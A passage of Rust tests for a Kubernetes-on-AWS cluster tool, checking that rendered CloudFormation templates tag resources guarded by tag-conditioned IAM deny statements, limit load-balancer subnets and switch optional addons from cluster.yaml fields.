                    || kind.starts_with("loadbalancer/app/") =>
            {
                "AWS::ElasticLoadBalancingV2::LoadBalancer"
            }
            _ => panic!("a guarded resource this test does not map to a type: {arn}"),
        }
    };
    let mut guarded = BTreeSet::new();
    for statement in policy["Statement"].as_array().unwrap() {
        if statement["Condition"]["StringNotEquals"]["aws:ResourceTag/KubernetesCluster"]
            != "CLUSTER_NAME"
        {
            continue;
        }
        assert_eq!(statement["Effect"], "Deny", "{statement}");
        let resources = one_or_many(&statement["Resource"]);
        guarded.extend(resources.iter().map(|arn| guarded_type(arn)));
    }
    assert!(guarded.len() >= 10, "{guarded:?}");
    for kind in &guarded {
        assert_eq!(
            schemas["types"][kind]["tag_on_create"], true,
            "{kind} is guarded by its tag, but CloudFormation does not tag it as it creates it"
        );
    }

    let private = PRIVATE;
    let (mut checked, mut untagged) = (BTreeMap::<String, usize>::new(), BTreeSet::new());
    for extra in [
        String::new(),
        private.to_string(),
        SHAPED_POOLS.to_string(),
        format!("apiEndpointLoadBalancer: {{type: network}}\n{private}"),
        "controllerCount: 2\nstackPerPool: true\nnodePools: [{name: gpu, count: 1}]\n".into(),
    ] {
        let rendered = render_with(&config(&extra), &Templates::built_in()).unwrap();
        let templates = std::iter::once(rendered.stack_template.clone())
            .chain(rendered.pool_stacks.values().map(|p| p.template.clone()));
        for template in templates {
            let template: Value = serde_json::from_str(&template).unwrap();
            for (id, resource) in template["Resources"].as_object().unwrap() {
                let kind = resource["Type"].as_str().unwrap();
                if !guarded.contains(kind) {
                    continue;
                }
                let tags = resource["Properties"]["Tags"].as_array();
                let ours = tags
                    .into_iter()
                    .flatten()
                    .any(|t| t["Key"] == "KubernetesCluster" && t["Value"] == "demo");
                if !ours {
                    untagged.insert(format!("{id} ({kind})"));
                }
                *checked.entry(kind.to_string()).or_default() += 1;
            }
        }
    }
    println!("{checked:?}");
    assert!(
        untagged.is_empty(),
        "without KubernetesCluster=demo: {untagged:?}"
    );
    assert!(checked.len() >= 9, "{checked:?}");
}

/// In a VPC the stack creates, the cloud controller puts load balancers only in the cluster's
/// subnets; in one brought by id it also picks subnets cluster.yaml does not name, so there the
/// policy names none (which would refuse its own choices).
#[test]
fn load_balancer_subnets_are_limited_only_in_a_vpc_the_stack_creates() {
    for (extra, limited) in [("", true), (SHAPED_POOLS, false)] {
        let rendered = render_with(&config(extra), &Templates::built_in()).unwrap();
        let stack = stack(&rendered);
        let managed = stack["Resources"]["IAMRoleController"]["Properties"]["ManagedPolicyArns"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|arn| arn["Ref"].is_string())
            .count();
        assert!(managed >= 3, "{managed} of the stack's policies");
        let statements = role_statements(&stack, "IAMRoleController");
        let create = statements
            .iter()
            .find(|s| s["Sid"] == "CreateLoadBalancersTaggedForThisClusterInItsSubnets")
            .unwrap();
        let subnets =
            &create["Condition"]["ForAllValues:StringEquals"]["elasticloadbalancing:Subnet"];
        assert_eq!(subnets.is_array(), limited, "{extra}: {create}");
        if limited {
            assert_eq!(subnets[0]["Ref"], "Subnet0", "{create}");
        }
    }
}

#[test]
fn each_optional_addon_is_switched_by_a_field_init_writes_and_only_when_on() {
    let init_text = include_str!("../../templates/cluster.yaml");
    for addon in ADDONS {
        let Some(switch) = addon.enabled_by else {
            continue;
        };
        let top = switch.field.split('.').next().unwrap();
        assert!(init_text.contains(top), "{} is not in cluster.yaml", switch.field);
        let off = config("");
        let on = config("clusterAutoscaler:\n  enabled: true\n");
        assert!(!(switch.enabled)(&off) && (switch.enabled)(&on), "{}", switch.field);
        assert!(!addons(&off).contains(&addon.template.path));
        assert!(addons(&on).contains(&addon.template.path));
    }
}
